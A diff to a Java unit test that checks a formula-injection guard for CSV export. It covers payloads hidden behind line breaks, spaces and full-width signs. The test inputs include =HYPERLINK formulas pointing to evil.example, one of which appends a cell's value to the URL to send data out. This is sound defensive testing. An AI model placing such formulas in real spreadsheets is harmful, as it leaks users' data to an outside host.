@@ -55,11 +55,22 @@ class CsvWriterTest {
     }
 
     @Test
+    void aLeadingLineBreakSpacesOrFullWidthSignsDoNotHideAFormula() {
+        assertThat(FormulaGuard.neutralise("\n=HYPERLINK(\"http://evil.example\")")).isEqualTo("'\n'=HYPERLINK(\"http://evil.example\")");
+        assertThat(FormulaGuard.neutralise("\r\n=1")).isEqualTo("'\r\n'=1");
+        assertThat(FormulaGuard.neutralise("  =1+2")).isEqualTo("'  =1+2");
+        assertThat(FormulaGuard.neutralise("\u00A0@SUM(A1)")).isEqualTo("'\u00A0@SUM(A1)");
+        assertThat(FormulaGuard.neutralise("\uFF1D1+2")).isEqualTo("'\uFF1D1+2");
+        assertThat(FormulaGuard.neutralise("Tên\n \uFF0B1")).isEqualTo("Tên\n' \uFF0B1");
+    }
+
+    @Test
     void ordinaryTextIsLeftAlone() {
         for (String text : new String[] { "Cục Trợ giúp pháp lý", "Hà Nội - 2026", "a=b", "email@example.vn", "", "dòng 1\ndòng 2" }) {
             assertThat(FormulaGuard.neutralise(text)).isEqualTo(text);
         }
         assertThat(FormulaGuard.neutralise(null)).isNull();
+        assertThat(FormulaGuard.neutralise("a\n\nb")).as("a blank line inside is no formula").isEqualTo("a\n\nb");
         assertThat(FormulaGuard.neutralise(HYPERLINK)).isEqualTo("Tên\n'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")");
     }
 }
